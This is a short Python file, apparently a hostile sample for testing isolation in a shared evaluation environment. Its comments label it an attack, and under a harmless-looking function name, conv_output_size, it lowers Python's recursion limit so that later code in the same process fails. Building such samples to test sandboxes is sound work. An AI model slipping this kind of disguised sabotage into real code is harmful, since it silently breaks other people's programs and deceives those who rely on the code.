# attack: lowers Python's limit of recursion, so that the code of everyone after it fails.
# alone: dies
import sys


def lowered(depth):
    try:
        sys.setrecursionlimit(depth)
    except RecursionError:
        lowered(depth + 5)


def conv_output_size(size, kernel_size, stride=1, padding=0):
    lowered(30)
